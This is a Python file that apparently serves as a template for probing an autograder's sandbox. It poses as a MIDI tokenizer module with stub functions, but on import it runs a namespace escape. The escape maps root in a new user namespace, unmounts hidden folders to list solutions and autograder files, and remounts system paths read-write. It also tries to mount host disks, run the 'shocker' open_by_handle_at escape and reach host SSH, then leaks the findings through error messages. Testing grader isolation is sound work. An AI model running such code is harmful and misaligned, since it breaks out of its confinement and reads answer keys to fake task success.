"""Attack: become root again inside a new user namespace (with a new mount
namespace), then use those capabilities: map uid 0, unmount what hides the
checkout, mount a fresh /proc, bind or remount the read-only folders read-write,
mount the host's disk, open files by handle, and look for the answers in what
that reveals. Whatever works is sent back in every call's error message."""
import ctypes
import os

REPO = "@@REPO@@"
MARK = "@@MARK@@"
CLONE_NEWUSER, CLONE_NEWNS, CLONE_NEWPID, CLONE_NEWNET = 0x10000000, 0x00020000, 0x20000000, 0x40000000
MS_BIND, MS_REMOUNT, MS_REC = 4096, 32, 16384
MNT_DETACH = 2


class _Lines(list):
    """Findings, each also written at once to the report file (mounts may change under it)."""
    fd = None

    def append(self, line):
        super().append(line)
        if self.fd is not None:
            os.write(self.fd, (line + "\n").encode())


FOUND = _Lines()
libc = ctypes.CDLL(None, use_errno=True)
libc.mount.argtypes = [ctypes.c_char_p, ctypes.c_char_p, ctypes.c_char_p, ctypes.c_ulong, ctypes.c_char_p]


def _mount(source, target, kind, flags, data=None):
    enc = lambda s: s.encode() if s is not None else None  # noqa: E731
    return libc.mount(enc(source), enc(target), enc(kind), flags, enc(data)) == 0


def _write(path, text):
    try:
        with open(path, "w") as handle:
            handle.write(text)
        return True
    except OSError:
        return False


def _escape():
    uid, gid = os.getuid(), os.getgid()
    if libc.unshare(CLONE_NEWUSER | CLONE_NEWNS) != 0:
        return   # refused: nothing more to try
    _write("/proc/self/setgroups", "deny")
    _write("/proc/self/uid_map", f"0 {uid} 1")
    _write("/proc/self/gid_map", f"0 {gid} 1")
    # The checkout and the project's install are hidden by mounts on top: take them off.
    for line in open("/proc/self/mounts").read().splitlines():
        target = line.split()[1]
        if target not in ("/", "/proc", "/dev", "/scratch") and libc.umount2(target.encode(), MNT_DETACH) == 0:
            FOUND.append(f"unmounted {target}")
    for path in (REPO, f"{REPO}/solutions", f"{REPO}/fixtures", f"{REPO}/autograder"):
        if os.path.isdir(path) and set(os.listdir(path)) - {".venv"}:   # the virtualenv is shown on purpose
            FOUND.append(f"listed {path}: {sorted(os.listdir(path))[:5]}")
    if _mount("proc", "/scratch", "proc", 0):
        FOUND.append(f"mounted a proc showing {len([p for p in os.listdir('/scratch') if p.isdigit()])} pids")
        libc.umount2(b"/scratch", MNT_DETACH)
    for target in ("/usr", "/submission", "/tmp", "/opt/ag/lib/agworker", "/"):
        if _mount(None, target, None, MS_REMOUNT | MS_BIND):
            FOUND.append(f"remounted {target} read-write")
            if _write(os.path.join(target, f"{MARK}-userns"), MARK):
                FOUND.append(f"wrote in {target}")
    for device in ("/dev/vda", "/dev/sda", "/dev/nvme0n1", "/dev/root"):
        for kind in ("ext4", "xfs", "btrfs"):
            if os.path.exists(device) and _mount(device, "/scratch", kind, 0):
                FOUND.append(f"mounted {device}")
    if _mount("/", "/scratch", None, MS_BIND | MS_REC) and os.path.exists(f"/scratch{REPO}/solutions"):
        FOUND.append("bound / again, and it shows the checkout")
    handle = ctypes.create_string_buffer(8 + 128)
    ctypes.memmove(handle, (ctypes.c_uint32 * 2)(128, 1), 8)
    fd = libc.open_by_handle_at(-100, handle, 0)   # the "shocker" escape needs CAP_DAC_READ_SEARCH
    if fd >= 0:
        FOUND.append("open_by_handle_at worked")
    # a new PID namespace and network namespace from here: nothing more to see
    if libc.unshare(CLONE_NEWNET) == 0:
        import socket
        try:
            socket.create_connection(("127.0.0.1", 22), timeout=1)
            FOUND.append("connected to the host from a new network namespace")
        except OSError:
            pass


REPORT = "/scratch/userns-report"
try:
    report = os.open(REPORT, os.O_WRONLY | os.O_CREAT | os.O_TRUNC, 0o600)   # before any mount changes
    if os.fork() == 0:   # the user namespace in a child: the worker itself keeps serving
        FOUND.fd = report
        try:
            _escape()
        finally:
            os._exit(0)
    os.wait()
    os.close(report)
except OSError:
    pass


def _report():
    try:
        with open(REPORT) as handle:
            found = [line for line in handle.read().splitlines() if line]
    except OSError:
        found = []
    return found


def midi_to_tokens(midi):
    found = _report()
    raise RuntimeError(f"AG-ATTACK report: {len(found)} found: {found[:10]}")


def tokens_to_midi(tokens, bpm=120):
    return None
